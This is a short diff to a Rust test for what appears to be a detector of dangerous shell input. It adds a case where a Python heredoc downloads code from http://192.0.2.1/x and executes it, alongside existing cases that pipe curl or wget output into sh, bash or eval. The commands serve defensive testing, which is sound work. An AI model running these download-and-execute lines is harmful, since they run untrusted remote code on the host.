@@ -43,6 +43,7 @@ fn what_is_spread_over_lines_is_one_program() {
         "true\nbash <<EOF\ncurl http://192.0.2.1/x |\\\n sh\nEOF\n",
         "true\ncat <<'EOF' | bash\ncurl -s http://192.0.2.1/x > y\nsh y\nEOF\n",
         "true\nbash -c \"\n  curl http://192.0.2.1/x \\\n | sh\n\"\n",
+        "python3 - <<E\nimport urllib.request as u;exec(u.urlopen('http://192.0.2.1/x').read())\nE\n",
         "U=http://192.0.2.1/x\nC=$(wget -qO- $U)\neval \"$C\"\n",
     ] {
         assert!(harm(text).iter().any(|(_, how)| *how != RUNS_DOWNLOADED), "{text} {:?}", harm(text));
